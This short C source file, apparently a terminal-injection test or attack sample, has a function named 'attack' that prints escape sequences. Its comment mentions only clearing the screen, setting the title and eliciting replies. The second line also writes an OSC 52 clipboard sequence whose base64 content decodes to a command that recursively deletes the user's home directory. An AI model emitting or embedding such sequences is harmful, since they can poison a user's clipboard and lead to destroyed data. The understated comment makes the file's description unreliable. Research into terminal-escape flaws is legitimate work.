/* Prints codes that drive a terminal: clear it, set its title, ask it to type something back. */
#include "attack.h"

static void attack(void) {
    dprintf(1, "\033[2J\033]0;title\007\033[6n\033P+q544e\033\\\r\b\x9b");
    dprintf(2, "\033]52;c;cm0gLXJmIH4K\007\x90");
}
